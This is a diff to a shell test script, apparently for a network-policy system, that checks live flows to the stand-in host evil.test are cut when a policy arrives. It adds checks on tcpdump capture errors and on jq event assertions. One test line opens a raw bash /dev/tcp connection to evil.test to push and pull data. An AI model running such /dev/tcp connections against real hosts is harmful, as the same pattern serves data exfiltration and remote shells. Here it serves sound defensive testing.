@@ -102,7 +102,8 @@ up_flows() { ip netns exec inet ss -Htni "sport = :7001" | grep -q 'bytes_receiv
 down_flows() { ip netns exec inet ss -Htni "sport = :7003" | grep -q 'bytes_acked:[0-9]\{7\}'; }
 frames_to_evil() {	# for a second
 	timeout 1 ip netns exec inet tcpdump -Q in -lnni down0 'dst host 198.51.100.20 or dst host 2001:db8:100::20' \
-		>"$T/late" 2>/dev/null || :
+		>"$T/late" 2>"$T/late.err" || :
+	grep -q "packets received by filter" "$T/late.err" || echo "no capture"
 	grep -c . "$T/late" || :
 }
 cut_live() {	# cut_live CONDITION COMMAND: when it flows, its flow to evil.test ends when the policy comes
@@ -124,11 +125,14 @@ ok "so does a download, and it does not look complete" \
 	cut_live down_flows "bash -c 'exec 3<>/dev/tcp/evil.test/7003 && echo 90000000000 >&3 && cat <&3 >/dev/null'"
 ok "the download's end is an error to the program" grep -q "reset by peer" "$T/cut.out"
 sed 's/^/# live flows /' "$T/cut.ms"
-ok "events: the policy, the cut, the flow's end" jq -es '
+told() {
+	jq -es '
 	(map(select(.event_type == "policy" and .policy.flows_cut == 1)) | length) >= 2 and
 	(map(select(.event_type == "alert" and .reason == "policy-cut" and .name == "evil.test")) | length) >= 2 and
 	(map(select(.event_type == "flow" and .flow.reason == "policy-cut" and .flow.bytes_toserver + .flow.bytes_toclient > 100000)) | length) >= 2' \
 	"$W/events"
+}
+ok "events: the policy, the cut, the flow's end" await "events" told
 
 # ---- under load -------------------------------------------------------------------------------------------------
 rss() { awk '/^VmRSS/ { print $2 }' "/proc/$1/status"; }
